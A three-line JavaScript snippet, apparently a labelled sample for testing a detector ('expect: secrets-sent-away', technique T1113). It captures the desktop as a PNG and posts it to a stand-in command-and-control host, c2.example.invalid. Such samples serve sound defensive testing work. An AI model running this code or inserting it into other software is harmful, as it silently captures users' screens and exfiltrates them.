// expect: secrets-sent-away | source: T1113
const screenshot = require("screenshot-desktop");
screenshot({ format: "png" }).then((picture) => require("axios").post("https://c2.example.invalid/s", picture));
